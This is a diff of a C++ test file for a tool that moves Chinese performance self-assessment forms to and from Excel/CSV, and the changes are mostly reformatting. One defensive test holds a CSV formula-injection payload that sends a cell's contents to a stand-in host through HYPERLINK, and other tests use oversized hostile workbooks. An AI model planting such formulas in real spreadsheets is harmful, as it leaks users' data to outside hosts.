@@ -1,15 +1,16 @@
 // Filled forms to Excel/CSV and back: the official layout, exact round trips for every
 // golden case, edits made in Excel read back, and templates from indicator lists.
+#include "office/answers_workbook.hpp"
+
 #include <filesystem>
 
-#include "office/answers_workbook.hpp"
 #include "api.hpp"
+#include "office/template_table.hpp"
 #include "session/form_session.hpp"
 #include "spreadsheet/csv.hpp"
 #include "spreadsheet/xlsx.hpp"
 #include "spreadsheet/xml_reader.hpp"
 #include "spreadsheet/zip_archive.hpp"
-#include "office/template_table.hpp"
 #include "test_support.hpp"
 
 using nlohmann::json;
@@ -28,7 +29,8 @@ FormSession golden_session(const std::string& name) {
 
 std::vector<std::string> golden_cases() {
   std::vector<std::string> out;
-  for (const auto& e : std::filesystem::directory_iterator(std::string(SELFEVAL_SOURCE_DIR) + "/tests/golden"))
+  for (const auto& e :
+       std::filesystem::directory_iterator(std::string(SELFEVAL_SOURCE_DIR) + "/tests/golden"))
     out.push_back(e.path().filename().string());
   std::sort(out.begin(), out.end());
   return out;
@@ -52,7 +54,8 @@ TEST_CASE("seed 001 in the official layout") {
   CHECK(sh.at(0, 0)->role == spreadsheet::CellRole::kTitle);
   CHECK(sh.at(r.table_head_row, 0)->text == "一级指标");
   CHECK(sh.at(r.table_head_row, 7)->text == "偏差原因分析及改进措施");
-  // 产出指标 spans its three indicator rows, with its weight as seed 001 prints it; 数量指标 its two.
+  // 产出指标 spans its three indicator rows, with its weight as seed 001 prints it; 数量指标 its
+  // two.
   auto out = find_cell(sh, "产出指标（50%）");
   auto qty = find_cell(sh, "数量指标");
   bool out_merged = false, qty_merged = false;
@@ -66,12 +69,14 @@ TEST_CASE("seed 001 in the official layout") {
   CHECK(sh.at(total.first, 6)->text == "100.00");
   CHECK(sh.at(total.first, 6)->kind == spreadsheet::Cell::Kind::kNumber);
   CHECK(sh.at(total.first + 1, 5)->text == "优");
-  for (const char* sign : {"填报人：", "审核人：", "单位负责人：", "单位盖章："}) CHECK(find_cell(sh, sign).first > total.first);
+  for (const char* sign : {"填报人：", "审核人：", "单位负责人：", "单位盖章："})
+    CHECK(find_cell(sh, sign).first > total.first);
   // Every indicator of the result is on the sheet with its score.
   const json scored = s.result();
   for (const auto& ind : scored["indicators"]) {
     auto at = find_cell(sh, ind["name"].get<std::string>());
-    CHECK(spreadsheet::shown_number(*sh.at(at.first, 6)) == ind["score"].get<std::string>());  // as Excel shows it
+    CHECK(spreadsheet::shown_number(*sh.at(at.first, 6)) ==
+          ind["score"].get<std::string>());  // as Excel shows it
   }
   const json j = report_to_json(r);
   CHECK(j["head_row"] == r.table_head_row);
@@ -127,7 +132,8 @@ TEST_CASE("workbooks that are not selfeval exports are refused with a reason") {
   spreadsheet::Workbook b;
   b.sheets.push_back({});
   b.sheets[0].name = "Sheet1";
-  CHECK(api_answers_from_xlsx(spreadsheet::write_xlsx(b))["findings"][0]["code"] == "workbook.no_data_sheet");
+  CHECK(api_answers_from_xlsx(spreadsheet::write_xlsx(b))["findings"][0]["code"] ==
+        "workbook.no_data_sheet");
   spreadsheet::Sheet data;
   data.name = "数据";
   data.cells[{1, 0}] = spreadsheet::Cell{"/values/x"};
@@ -142,8 +148,11 @@ TEST_CASE("workbooks that are not selfeval exports are refused with a reason") {
 TEST_CASE("CSV export: BOM, the layout's rows, numbers with their decimals") {
   FormSession s = golden_session("seed001-project");
   const std::string csv = s.export_csv();
-  CHECK(csv.rfind("\xEF\xBB\xBF" "2022年度项目支出绩效自评表", 0) == 0);
-  CHECK(csv.find("\r\n一级指标,二级指标,三级指标,年度指标值,实际完成值,分值,得分,偏差原因分析及改进措施\r\n") != std::string::npos);
+  CHECK(csv.rfind("\xEF\xBB\xBF"
+                  "2022年度项目支出绩效自评表",
+                  0) == 0);
+  CHECK(csv.find("\r\n一级指标,二级指标,三级指标,年度指标值,实际完成值,分值,得分,"
+                 "偏差原因分析及改进措施\r\n") != std::string::npos);
   CHECK(csv.find("总分,,,,,100,100.00,") != std::string::npos);
   CHECK(csv.find("年度资金总额,,150.00,14.53,14.53,10,100.00%,10.00") != std::string::npos);
 }
@@ -186,7 +195,8 @@ TEST_CASE("a template from an indicator list") {
     for (std::size_t c = 0; c < (*rows)[i].size(); ++c)
       if (!(*rows)[i][c].empty())
         b.sheets[0].cells[{static_cast<int>(i), static_cast<int>(c)}] =
-            spreadsheet::Cell{(*rows)[i][c], c == 4 && i > 0 ? spreadsheet::Cell::Kind::kNumber : spreadsheet::Cell::Kind::kText};
+            spreadsheet::Cell{(*rows)[i][c], c == 4 && i > 0 ? spreadsheet::Cell::Kind::kNumber
+                                                             : spreadsheet::Cell::Kind::kText};
   const json x = api_template_from_sheet(spreadsheet::write_xlsx(b), "培训项目");
   REQUIRE(x["ok"] == true);
   CHECK(x["template"] == t);
@@ -194,7 +204,8 @@ TEST_CASE("a template from an indicator list") {
 
 TEST_CASE("indicator lists with mistakes are refused cell by cell") {
   const json r = api_template_from_sheet(
-      "一级,二级,三级,年度指标值,分值,方向,规则\n产出指标,数量指标,培训,≥15名,二十,,\n,,活动,≥3场,20,向上,\n,,走访,10次,10,,打分\n",
+      "一级,二级,三级,年度指标值,分值,方向,规则\n产出指标,数量指标,培训,≥15名,二十,,\n,,活动,≥3场,"
+      "20,向上,\n,,走访,10次,10,,打分\n",
       "");
   REQUIRE(r["ok"] == false);
   REQUIRE(r["findings"].size() == 3);
@@ -205,12 +216,14 @@ TEST_CASE("indicator lists with mistakes are refused cell by cell") {
   CHECK(api_template_from_sheet("名称,分值\n", "")["findings"][0]["code"] == "table.no_header");
   // A target the template would refuse is refused at its cell (found by the fuzzer: a list made a
   // template that check-template refused).
-  const json bad_date = api_template_from_sheet("一级,二级,三级,年度指标值,分值\n产出,时效,完成时间,1011年12月31日,100\n", "");
+  const json bad_date = api_template_from_sheet(
+      "一级,二级,三级,年度指标值,分值\n产出,时效,完成时间,1011年12月31日,100\n", "");
   REQUIRE(bad_date["ok"] == false);
   CHECK(bad_date["findings"][0]["code"] == "table.bad_target");
-  CHECK(bad_date["findings"][0]["message_zh"].get<std::string>().find("第 2 行（D2）：指标值中的日期无效") == 0);
-  CHECK(api_template_from_sheet("一级,二级,三级,年度指标值,分值\n产出,数量,培训,1次,40\n", "")["findings"][0]["code"] ==
-        "table.weights_sum");
+  CHECK(bad_date["findings"][0]["message_zh"].get<std::string>().find(
+            "第 2 行（D2）：指标值中的日期无效") == 0);
+  CHECK(api_template_from_sheet("一级,二级,三级,年度指标值,分值\n产出,数量,培训,1次,40\n",
+                                "")["findings"][0]["code"] == "table.weights_sum");
 }
 
 // ---------------------------------------------------------------------------------------
@@ -220,7 +233,8 @@ namespace {
 
 // The workbook with cell `ref` of the first sheet holding the number `v` under the built-in
 // or custom number format `format` — what Excel writes when a value is typed there.
-std::string typed_in_excel(const std::string& xlsx, const std::string& ref, const std::string& v, const std::string& format) {
+std::string typed_in_excel(const std::string& xlsx, const std::string& ref, const std::string& v,
+                           const std::string& format) {
   std::string why;
   auto parts = spreadsheet::zip_read(xlsx, why);
   REQUIRE(parts);
@@ -230,15 +244,18 @@ std::string typed_in_excel(const std::string& xlsx, const std::string& ref, cons
       const auto xfs = p.data.find("<cellXfs count=\"");
       const int count = std::atoi(p.data.c_str() + xfs + 16);
       p.data.replace(xfs + 16, std::to_string(count).size(), std::to_string(count + 1));
-      p.data.insert(p.data.find("</cellXfs>"), "<xf numFmtId=\"300\" fontId=\"0\" fillId=\"0\" borderId=\"1\" xfId=\"0\"/>");
-      p.data.insert(p.data.find("</numFmts>"), "<numFmt numFmtId=\"300\" formatCode=\"" + spreadsheet::xml_escape(format) + "\"/>");
+      p.data.insert(p.data.find("</cellXfs>"),
+                    "<xf numFmtId=\"300\" fontId=\"0\" fillId=\"0\" borderId=\"1\" xfId=\"0\"/>");
+      p.data.insert(p.data.find("</numFmts>"), "<numFmt numFmtId=\"300\" formatCode=\"" +
+                                                   spreadsheet::xml_escape(format) + "\"/>");
       const std::string style = std::to_string(count);
       for (auto& q : *parts)
         if (q.name == "xl/worksheets/sheet1.xml") {
           const auto at = q.data.find("<c r=\"" + ref + "\"");
           REQUIRE(at != std::string::npos);
           const auto end = q.data.find("</c>", at) + 4;
-          q.data.replace(at, end - at, "<c r=\"" + ref + "\" s=\"" + style + "\"><v>" + v + "</v></c>");
+          q.data.replace(at, end - at,
+                         "<c r=\"" + ref + "\" s=\"" + style + "\"><v>" + v + "</v></c>");
         }
     }
   }
@@ -253,7 +270,8 @@ std::string cell_of(const std::string& xlsx, const std::string& text, int col) {
   return spreadsheet::cell_ref(at.first, col);
 }
 
-std::string total_when(const std::string& answers_json, const std::string& id, const std::string& field, const std::string& typed) {
+std::string total_when(const std::string& answers_json, const std::string& id,
+                       const std::string& field, const std::string& typed) {
   FormSession s;
   REQUIRE(s.load_template(slurp("schemas/templates/project-self-assessment.json"))["ok"] == true);
   REQUIRE(s.load_answers(answers_json)["ok"] == true);
@@ -263,13 +281,16 @@ std::string total_when(const std::string& answers_json, const std::string& id, c
 
 }  // namespace
 
-TEST_CASE("95% typed into 实际完成值 in Excel, LibreOffice or exceljs reads back as 95% and scores as typing 95% does") {
+TEST_CASE(
+    "95% typed into 实际完成值 in Excel, LibreOffice or exceljs reads back as 95% and scores as "
+    "typing 95% does") {
   const std::string seed = slurp("tests/golden/seed001-project/answers.json");
   const std::string typed_total = total_when(seed, "b1", "actual", "95%");
   CHECK(typed_total == "99.25");
   FormSession s = golden_session("seed001-project");
   const std::string exported = s.export_xlsx();
-  const std::string excel = typed_in_excel(exported, cell_of(exported, "人才政策申报", 4), "0.95", "0%");
+  const std::string excel =
+      typed_in_excel(exported, cell_of(exported, "人才政策申报", 4), "0.95", "0%");
   for (const std::string& bytes : {excel, slurp("tests/data/sheets/seed001-percent.exceljs.xlsx"),
                                    slurp("tests/data/sheets/seed001-percent.libreoffice.xlsx")}) {
     const json back = api_answers_from_xlsx(bytes);
@@ -282,11 +303,13 @@ TEST_CASE("95% typed into 实际完成值 in Excel, LibreOffice or exceljs reads
     CHECK(back["answers"] == expected);
   }
   // 0.1234 shown as 12.34%, not 12.340000000000002%.
-  const json fine = api_answers_from_xlsx(typed_in_excel(exported, cell_of(exported, "人才政策申报", 4), "0.1234", "0.00%"));
+  const json fine = api_answers_from_xlsx(
+      typed_in_excel(exported, cell_of(exported, "人才政策申报", 4), "0.1234", "0.00%"));
   CHECK(fine["answers"]["values"]["b1"]["actual"] == "12.34%");
 }
 
-TEST_CASE("a date typed into a 时效 row reads back as that date, and the row scores as typing it does") {
+TEST_CASE(
+    "a date typed into a 时效 row reads back as that date, and the row scores as typing it does") {
   const std::string answers = slurp("tests/data/sheets/deadline.answers.json");
   const std::string late_total = total_when(answers, "q3", "actual_date", "2023-01-15");
   CHECK(late_total == "90.00");
@@ -295,10 +318,11 @@ TEST_CASE("a date typed into a 时效 row reads back as that date, and the row s
   REQUIRE(s.load_answers(answers)["ok"] == true);
   const std::string exported = s.export_xlsx();
   const std::string ref = cell_of(exported, "实施细则出台时间", 4);
-  for (const std::string& bytes : {typed_in_excel(exported, ref, "44941", "yyyy/m/d"),
-                                   typed_in_excel(exported, ref, "44941", "yyyy\"年\"m\"月\"d\"日\""),
-                                   slurp("tests/data/sheets/deadline-late.exceljs.xlsx"),
-                                   slurp("tests/data/sheets/deadline-late.libreoffice.xlsx")}) {
+  for (const std::string& bytes :
+       {typed_in_excel(exported, ref, "44941", "yyyy/m/d"),
+        typed_in_excel(exported, ref, "44941", "yyyy\"年\"m\"月\"d\"日\""),
+        slurp("tests/data/sheets/deadline-late.exceljs.xlsx"),
+        slurp("tests/data/sheets/deadline-late.libreoffice.xlsx")}) {
     const json back = api_answers_from_xlsx(bytes);
     REQUIRE_MESSAGE(back["ok"] == true, back.dump());
     CHECK(back["answers"]["values"]["q3"]["actual_date"] == "2023-01-15");
@@ -309,11 +333,15 @@ TEST_CASE("a date typed into a 时效 row reads back as that date, and the row s
   std::string why;
   auto parts = spreadsheet::zip_read(wb1904, why);
   for (auto& p : *parts)
-    if (p.name == "xl/workbook.xml") p.data.insert(p.data.find("<sheets>"), "<workbookPr date1904=\"1\"/>");
-  CHECK(api_answers_from_xlsx(spreadsheet::zip_write(*parts))["answers"]["values"]["q3"]["actual_date"] == "2023-01-15");
+    if (p.name == "xl/workbook.xml")
+      p.data.insert(p.data.find("<sheets>"), "<workbookPr date1904=\"1\"/>");
+  CHECK(api_answers_from_xlsx(spreadsheet::zip_write(
+            *parts))["answers"]["values"]["q3"]["actual_date"] == "2023-01-15");
 }
 
-TEST_CASE("a cell that cannot be read as it shows keeps the listed answer, with a finding naming sheet and cell") {
+TEST_CASE(
+    "a cell that cannot be read as it shows keeps the listed answer, with a finding naming sheet "
+    "and cell") {
   FormSession s = golden_session("seed001-project");
   const std::string exported = s.export_xlsx();
   const std::string ref = cell_of(exported, "人才政策申报", 4);
@@ -323,7 +351,8 @@ TEST_CASE("a cell that cannot be read as it shows keeps the listed answer, with 
     if (p.name == "xl/worksheets/sheet1.xml") {
       const auto at = p.data.find("<c r=\"" + ref + "\"");
       const auto end = p.data.find("</c>", at) + 4;
-      p.data.replace(at, end - at, "<c r=\"" + ref + "\"><f>B1*2</f></c>");  // a formula never calculated
+      p.data.replace(at, end - at,
+                     "<c r=\"" + ref + "\"><f>B1*2</f></c>");  // a formula never calculated
     }
   const json back = api_answers_from_xlsx(spreadsheet::zip_write(*parts));
   REQUIRE(back["ok"] == true);
@@ -333,7 +362,9 @@ TEST_CASE("a cell that cannot be read as it shows keeps the listed answer, with 
   CHECK(back["findings"][0]["message_zh"].get<std::string>().find("工作表“自评表”的 " + ref) == 0);
 }
 
-TEST_CASE("indicator lists from LibreOffice, exceljs and GB18030 CSV give the template of their UTF-8 twin") {
+TEST_CASE(
+    "indicator lists from LibreOffice, exceljs and GB18030 CSV give the template of their UTF-8 "
+    "twin") {
   const json twin = api_template_from_sheet(slurp("tests/data/sheets/list.utf8.csv"), "培训");
   REQUIRE_MESSAGE(twin["ok"] == true, twin.dump());
   const json& t = twin["template"];
@@ -343,7 +374,8 @@ TEST_CASE("indicator lists from LibreOffice, exceljs and GB18030 CSV give the te
   CHECK(output[2]["children"][0]["target"] == "2022年12月31日");
   CHECK(t["indicators"][1]["children"][0]["children"][0]["target"] == "100%");
   CHECK(t["indicators"][2]["children"][0]["children"][0]["name"] == "学员满意度（䶮𠀀）");
-  for (const char* f : {"list.utf8-bom.csv", "list.gb18030.csv", "list.libreoffice.xlsx", "list.exceljs.xlsx"}) {
+  for (const char* f :
+       {"list.utf8-bom.csv", "list.gb18030.csv", "list.libreoffice.xlsx", "list.exceljs.xlsx"}) {
     CAPTURE(f);
     const json r = api_template_from_sheet(slurp(std::string("tests/data/sheets/") + f), "培训");
     REQUIRE_MESSAGE(r["ok"] == true, r.dump());
@@ -361,16 +393,20 @@ TEST_CASE("an .xls indicator list imports; numbers whose format .xls does not ke
   CHECK(output[0]["children"][0]["name"] == "培训人数");
   CHECK(output[1]["children"][0]["target"] == "0.95");
   CHECK(output[2]["children"][0]["target"] == "2022-12-31");
-  CHECK(r["template"]["indicators"][2]["children"][0]["children"][0]["name"] == "学员满意度（䶮𠀀）");
+  CHECK(r["template"]["indicators"][2]["children"][0]["children"][0]["name"] ==
+        "学员满意度（䶮𠀀）");
   std::vector<std::string> codes;
   for (const auto& f : r["findings"]) codes.push_back(f["code"]);
-  CHECK(codes == std::vector<std::string>{"workbook.xls_limits", "table.format_unknown", "table.format_unknown"});
+  CHECK(codes == std::vector<std::string>{"workbook.xls_limits", "table.format_unknown",
+                                          "table.format_unknown"});
   CHECK(r["findings"][1]["message_zh"].get<std::string>().find("第 3 行（D3）") == 0);
-  CHECK(api_template_from_sheet(std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + "not really", "")["findings"][0]["code"] ==
-        "workbook.unreadable");
+  CHECK(api_template_from_sheet(std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + "not really",
+                                "")["findings"][0]["code"] == "workbook.unreadable");
 }
 
-TEST_CASE("hostile indicator lists are refused early with the limit named; large ones import in linear time") {
+TEST_CASE(
+    "hostile indicator lists are refused early with the limit named; large ones import in linear "
+    "time") {
   // One cell at XFD1048576 (the 794-byte workbook of the issue).
   spreadsheet::Workbook far;
   far.sheets.push_back({});
@@ -381,17 +417,20 @@ TEST_CASE("hostile indicator lists are refused early with the limit named; large
   REQUIRE(r["ok"] == false);
   CHECK(r["findings"][0]["code"] == "table.too_large");
   CHECK(r["findings"][0]["message_zh"].get<std::string>().find("第 1048576 行") == 0);
-  CHECK(r["findings"][0]["message_zh"].get<std::string>().find("最多 30,000 行") != std::string::npos);
+  CHECK(r["findings"][0]["message_zh"].get<std::string>().find("最多 30,000 行") !=
+        std::string::npos);
   // A CSV of 1,000,000 rows stops at the first row beyond the limits.
   std::string big = "一级,二级,三级,年度指标值,分值\n";
   for (int i = 0; i < 1000000; ++i) big += "产出,数量,培训" + std::to_string(i) + ",1次,0.0001\n";
   r = api_template_from_sheet(big, "");
   REQUIRE(r["ok"] == false);
   CHECK(r["findings"][0]["code"] == "table.too_large");
-  CHECK(r["findings"][0]["message_zh"].get<std::string>().find("超过 500 个指标（模板上限）") != std::string::npos);
+  CHECK(r["findings"][0]["message_zh"].get<std::string>().find("超过 500 个指标（模板上限）") !=
+        std::string::npos);
   // 8,000 indicators in 16 categories of 500: a valid list, read once.
   std::string list = "一级,二级,三级,年度指标值,分值\n";
-  for (int i = 0; i < 8000; ++i) list += "产出,类别" + std::to_string(i / 500) + ",指标" + std::to_string(i) + ",1次,0.0125\n";
+  for (int i = 0; i < 8000; ++i)
+    list += "产出,类别" + std::to_string(i / 500) + ",指标" + std::to_string(i) + ",1次,0.0125\n";
   r = api_template_from_sheet(list, "");
   REQUIRE_MESSAGE(r["ok"] == true, r["findings"].dump());
   CHECK(r["template"]["indicators"][0]["children"].size() == 16);
@@ -401,7 +440,8 @@ TEST_CASE("hostile indicator lists are refused early with the limit named; large
   auto rows = spreadsheet::read_csv(list, why);
   for (std::size_t i = 0; i < rows->size(); ++i)
     for (std::size_t c = 0; c < (*rows)[i].size(); ++c)
-      wide.sheets[0].cells[{static_cast<int>(i), static_cast<int>(c)}] = spreadsheet::Cell{(*rows)[i][c]};
+      wide.sheets[0].cells[{static_cast<int>(i), static_cast<int>(c)}] =
+          spreadsheet::Cell{(*rows)[i][c]};
   wide.sheets[0].cells[{8000, 16383}] = spreadsheet::Cell{"备注"};  // a note far to the right
   CHECK(api_template_from_sheet(spreadsheet::write_xlsx(wide), "")["template"] == r["template"]);
 }
@@ -409,12 +449,14 @@ TEST_CASE("hostile indicator lists are refused early with the limit named; large
 TEST_CASE("CSV export: text that a spreadsheet would run as a formula is written as text") {
   FormSession s = golden_session("seed001-project");
   REQUIRE(s.set_value("q1", "reason", "=1+1")["ok"] == true);
-  REQUIRE(s.set_value("q2", "reason", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")")["ok"] == true);
+  REQUIRE(s.set_value("q2", "reason",
+                      "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")")["ok"] == true);
   REQUIRE(s.set_value("b1", "reason", "-2+3")["ok"] == true);
   REQUIRE(s.set_value("b2", "reason", "@SUM(1)")["ok"] == true);
   const std::string csv = s.export_csv();
   CHECK(csv.find(",\"'=1+1\"\r\n") != std::string::npos);
-  CHECK(csv.find(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"点击\"\")\"\r\n") != std::string::npos);
+  CHECK(csv.find(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"点击\"\")\"\r\n") !=
+        std::string::npos);
   CHECK(csv.find(",\"'-2+3\"\r\n") != std::string::npos);
   CHECK(csv.find(",\"'@SUM(1)\"\r\n") != std::string::npos);
   // Numbers stay numbers, negative ones too.
